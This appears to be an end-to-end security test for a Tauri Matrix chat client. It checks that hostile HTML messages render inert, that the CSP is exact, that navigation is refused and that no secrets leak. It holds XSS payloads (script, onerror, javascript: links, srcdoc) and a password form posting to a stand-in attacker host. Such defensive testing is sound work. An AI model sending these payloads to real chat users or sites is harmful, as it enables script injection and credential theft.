// End-to-end: the locked-down shell in the real window. Hostile messages from another
// user (script, iframe, img onerror, svg, javascript: links, styles, forms…) render
// inert; the CSP in force is the one expected and the webview enforces it; navigation
// away from the app and new windows are refused; and no secret (access token, store
// passphrase, password) ever crossed into the webview or the logs: the IPC recorder's
// file (CHAPPE_IPC_RECORD, debug builds, set by session.sh for the whole run) and the
// app's log are scanned for the session's secrets, read back from the real keychain.
// Named to run last: its scan covers every scenario of the run.
import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import { Matrix, rand } from "./matrix.mjs";
import { scenario, signIn } from "./scenario.mjs";
import { WebDriver } from "./webdriver.mjs";

const { SYNAPSE_URL, SYNAPSE_SECRET, APP, SHOTS = "target/e2e", CHAPPE_IPC_RECORD, CHAPPE_DATA_DIR } = process.env;
const mx = new Matrix(SYNAPSE_URL, SYNAPSE_SECRET);
const wd = new WebDriver(process.env.WEBDRIVER_URL);
const { step, failed, exit } = scenario(wd, "security", SHOTS);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// What the CSP must be (tauri.conf.json); Tauri may add hashes or nonces of its own
// scripts and styles to script-src and style-src, nothing else.
const EXPECTED_CSP = {
  "default-src": ["'self'"],
  "script-src": ["'self'"],
  "style-src": ["'self'"],
  "img-src": ["'self'", "media:", "http://media.localhost"],
  "connect-src": ["ipc:", "http://ipc.localhost"],
  "media-src": ["'none'"],
  "object-src": ["'none'"],
  "frame-src": ["'none'"],
  "worker-src": ["'none'"],
  "base-uri": ["'none'"],
  "form-action": ["'none'"],
};

/** Hostile formatted bodies; each would set `window.__chappePwned` if anything ran. */
function hostile(tag) {
  return [
    `<script>window.__chappePwned = "script"</script><b>gras-${tag}</b>`,
    `<img src=x onerror="window.__chappePwned='img'">`,
    `<iframe src="javascript:top.__chappePwned='iframe'"></iframe><iframe srcdoc="<script>parent.__chappePwned='srcdoc'</script>"></iframe>`,
    `<a href="javascript:window.__chappePwned='link'">lien-${tag}</a>`,
    `<svg onload="window.__chappePwned='svg'"><circle r="5"/></svg>`,
    `<details open ontoggle="window.__chappePwned='details'"><summary>s</summary>d</details>`,
    `<img src="https://evil.example/track.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<style>body{display:none}</style><div style="position:fixed;inset:0;background:red">voile</div>`,
    `<form action="https://evil.example/"><input name="pw"><button>ok</button></form>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
    `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
    `<math><mi xlink:href="javascript:window.__chappePwned='math'">m</mi></math>`,
    `<a href="https://example.org/" target="_blank">web-${tag}</a>`,
    // As deep as a 64 KiB event allows: it aborted the app before (stack overflow in
    // the SDK's sanitiser on a 2 MiB tokio thread; see chappe_core::runtime).
    `${"<b>".repeat(21000)}profond-${tag}`,
  ];
}

function secretTool(...args) {
  return new Promise((resolve) => {
    execFile("secret-tool", args, (err, stdout) => resolve(err ? null : stdout));
  });
}

/** Every place in `text` where one of `secrets` (or a Synapse token) appears. */
function leaks(name, text, secrets) {
  const found = [];
  for (const [what, value] of Object.entries(secrets)) {
    if (value && text.includes(value)) found.push(`${name} holds the ${what}`);
  }
  // Any Synapse access or refresh token, from any scenario of the run.
  const token = text.match(/sy[tr]_[A-Za-z0-9]+_[A-Za-z0-9]+_[A-Za-z0-9]+/);
  if (token) found.push(`${name} holds a token-like string ${token[0].slice(0, 12)}…`);
  return found;
}

try {
  const tag = rand();
  const alice = await mx.register("alice", "Alice Sécu");
  const bob = await mx.register("bob", "Bob Hostile");
  const roomId = await mx.createRoom(bob, `Sécurité ${tag}`, [alice]);
  await mx.join(alice, roomId);
  const bodies = hostile(tag);
  for (const [i, html] of bodies.entries()) {
    await mx.sendContent(bob, roomId, {
      msgtype: "m.text", body: `hostile ${i} ${tag}`, format: "org.matrix.custom.html", formatted_body: html,
    });
  }
  await mx.send(bob, roomId, `fin ${tag}`);

  await step("log in and open the room with the hostile messages", async () => {
    await wd.start(APP);
    await signIn(wd, SYNAPSE_URL, alice.username, alice.password);
    await wd.waitFor(`li.room[data-room-id="${roomId}"]`, 60000);
    await wd.click(`li.room[data-room-id="${roomId}"]`);
    await wd.waitUntil("the last message", async () => (await wd.text("#timeline")).includes(`fin ${tag}`), 60000);
    // The first hostile message too (scrolling up loads older ones).
    await wd.waitUntil("the first hostile message", async () => {
      await wd.script("const t = document.querySelector('#timeline'); if (t) t.scrollTop = 0; return true;");
      return (await wd.text("#timeline")).includes(`gras-${tag}`);
    }, 60000);
  });

  await step("the hostile messages render inert: nothing ran, no dangerous element or attribute", async () => {
    // Give any onerror/onload/ontoggle time to fire, had it survived.
    await sleep(2000);
    const report = await wd.script(`
      const tl = document.querySelector("#timeline");
      const bad = [];
      if (window.__chappePwned !== undefined) bad.push("ran: " + window.__chappePwned);
      for (const sel of ["script", "iframe", "svg", "math", "object", "embed", "style", "form", "input",
                         "meta", "base", "link", "frame", "template"]) {
        if (tl.querySelector(sel)) bad.push("element " + sel);
      }
      for (const el of tl.querySelectorAll(".message .body *")) {
        for (const a of el.attributes) {
          if (a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc" || a.name === "formaction") {
            bad.push(el.tagName + " " + a.name);
          }
        }
        if (el.tagName === "A" && el.hasAttribute("href") && !/^(https?|mailto|matrix|ftp|magnet):/.test(el.getAttribute("href"))) {
          bad.push("link " + el.getAttribute("href"));
        }
        if (el.tagName === "IMG" && !/^(media:|http:\\/\\/media\\.localhost)/.test(el.getAttribute("src") || "")) {
          bad.push("image " + el.getAttribute("src"));
        }
      }
      const bold = [...tl.querySelectorAll(".message .body b")].some((b) => b.textContent === "gras-" + arguments[0]);
      const web = [...tl.querySelectorAll(".message .body a")].some((a) => a.getAttribute("href") === "https://example.org/");
      return { bad, bold, web, base: document.baseURI, hidden: getComputedStyle(document.body).display === "none" };`, tag);
    await wd.screenshot(`${SHOTS}/security-hostile.png`);
    if (report.bad.length) throw new Error(report.bad.join("; "));
    if (!report.bold) throw new Error("the safe <b> next to the script was lost");
    if (!report.web) throw new Error("the https link was lost");
    if (!report.base.startsWith("tauri://localhost")) throw new Error(`base URI ${report.base}`);
    if (report.hidden) throw new Error("a message's style hid the page");
    // Every hostile message has its place in the timeline, the deepest one included
    // (what is left of it after sanitising may be empty), and the app still runs.
    const shown = await wd.script("return document.querySelectorAll('#timeline li.message').length");
    if (shown < bodies.length + 1) throw new Error(`${shown} messages shown for ${bodies.length + 1} sent`);
  });

  await step("clicking the neutralised javascript: link runs nothing and stays in the app", async () => {
    // What is left of the link (an <a> without href, or its text) is clicked.
    const clicked = await wd.script(`
      const body = [...document.querySelectorAll(".message .body")].find((b) => b.textContent.includes("lien-" + arguments[0]));
      if (!body) return null;
      const target = body.querySelector("a") || body;
      target.click();
      return target.outerHTML;`, tag);
    if (clicked === null) throw new Error("the link text is gone");
    if (/href=/.test(clicked)) throw new Error(`the javascript: link kept an href: ${clicked}`);
    await sleep(1000);
    const state = await wd.script("return { pwned: window.__chappePwned, url: location.href }");
    // (undefined comes back from WebDriver as null)
    if (state.pwned != null || !state.url.startsWith("tauri://localhost")) throw new Error(JSON.stringify(state));
  });

  const policy = await step("the webview enforces its CSP: data:/remote images, inline script and frames are blocked", async () => {
    await wd.script(`
      window.__violations = [];
      window.__policy = null;
      document.addEventListener("securitypolicyviolation", (e) => {
        window.__violations.push(e.effectiveDirective || e.violatedDirective);
        window.__policy = e.originalPolicy;
      });
      const box = document.createElement("div");
      box.id = "csp-probe";
      const img = document.createElement("img");
      img.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
      const remote = document.createElement("img");
      remote.src = arguments[0] + "/_matrix/client/versions";
      const script = document.createElement("script");
      script.textContent = "window.__chappePwned = 'inline-script'";
      const frame = document.createElement("iframe");
      frame.src = "tauri://localhost/";
      box.append(img, remote, script, frame);
      document.body.append(box);
      return true;`, SYNAPSE_URL);
    const seen = await wd.waitUntil("the violation reports", async () => {
      const v = await wd.script("return window.__violations");
      return ["img-src", "script-src", "frame-src"].every((d) => v.some((x) => x.startsWith(d))) ? v : null;
    }, 10000);
    const state = await wd.script("document.querySelector('#csp-probe').remove(); return window.__chappePwned");
    if (state != null) throw new Error(`ran: ${state}`);
    console.log(`  violations reported: ${[...new Set(seen)].join(", ")}`);
    return wd.script("return window.__policy");
  });

  await step("the CSP in force is exactly the one expected", async () => {
    // The policy the webview enforces, as it reports it with each violation (Tauri
    // sends it as a response header of the app's pages, not in a meta element).
    const content = policy;
    const got = {};
    for (const part of content.split(";").map((p) => p.trim()).filter(Boolean)) {
      const [name, ...sources] = part.split(/\s+/);
      got[name] = sources;
    }
    const problems = [];
    for (const [name, want] of Object.entries(EXPECTED_CSP)) {
      const have = got[name] ?? [];
      const extra = have.filter((s) => !want.includes(s)
        && !((name === "script-src" || name === "style-src") && /^'(sha256-|nonce-)/.test(s)));
      const missing = want.filter((s) => !have.includes(s));
      if (extra.length || missing.length) problems.push(`${name}: extra ${extra} missing ${missing}`);
    }
    for (const name of Object.keys(got)) if (!(name in EXPECTED_CSP)) problems.push(`unexpected ${name}`);
    if (/unsafe-(inline|eval)/.test(content)) problems.push("unsafe-inline/eval");
    if (problems.length) throw new Error(`${problems.join("; ")}\nCSP: ${content}`);
    console.log(`  CSP: ${content}`);
  });

  await step("navigation away from the app and new windows are refused", async () => {
    const before = await wd.cmd("GET", "/window/handles");
    const opened = await wd.script("const w = window.open(arguments[0], '_blank'); return w === null;",
      `${SYNAPSE_URL}/_matrix/client/versions`);
    await wd.script("location.href = arguments[0]; return true;", `${SYNAPSE_URL}/_matrix/client/versions`);
    await sleep(2000);
    const url = await wd.script("return location.href");
    if (!url.startsWith("tauri://localhost")) throw new Error(`the webview went to ${url}`);
    if ((await wd.findAll("#logout")).length === 0) throw new Error("the app's page is gone");
    const after = await wd.cmd("GET", "/window/handles");
    if (after.length !== before.length) throw new Error(`windows: ${before.length} -> ${after.length}`);
    if (!opened) throw new Error("window.open returned a window");
    const log = await readFile("target/e2e/app.log", "utf8");
    if (!log.includes("navigation away from the app refused")) throw new Error("the shell did not log the refusal");
  });

  await step("no secret crossed into the webview, the IPC or the logs", async () => {
    const stored = await secretTool("lookup", "service", "fr.chappe.app", "username", `session:${CHAPPE_DATA_DIR}`);
    if (!stored) throw new Error("no saved session in the keychain");
    const session = JSON.parse(stored);
    const secrets = {
      "access token": session.access_token,
      "store passphrase": session.store_passphrase,
      password: alice.password,
    };
    if (!/^syt_/.test(session.access_token) || session.store_passphrase.length < 16) {
      throw new Error("the keychain entry is not what this test expects");
    }
    if (!CHAPPE_IPC_RECORD) throw new Error("CHAPPE_IPC_RECORD is not set (tests/e2e/session.sh)");
    const record = await readFile(CHAPPE_IPC_RECORD, "utf8");
    const lines = record.split("\n").filter(Boolean).map((l) => JSON.parse(l));
    const responses = lines.filter((l) => l.kind === "response");
    const channels = lines.filter((l) => l.kind === "channel");
    // The recorder really saw what the webview got: the login's answer, the timeline.
    if (!responses.some((l) => l.cmd === "login" && l.body?.includes(alice.userId))) {
      throw new Error("the record lacks the login response");
    }
    if (!channels.some((l) => l.body?.includes(`fin ${tag}`))) throw new Error("the record lacks the timeline");
    const dom = await wd.script(
      "return document.documentElement.outerHTML + JSON.stringify(localStorage) + JSON.stringify(sessionStorage)");
    const log = await readFile("target/e2e/app.log", "utf8");
    const found = [
      ...leaks("the IPC record", record, secrets),
      ...leaks("the app log", log, secrets),
      ...leaks("the page", dom, secrets),
    ];
    if (found.length) throw new Error(found.join("; "));
    console.log(`  scanned ${responses.length} command responses, ${channels.length} channel messages `
      + `(${record.length} bytes), ${log.length} bytes of log, ${dom.length} bytes of page: no secret`);
  });
} catch (e) {
  await failed(e);
} finally {
  await wd.quit();
}
exit();
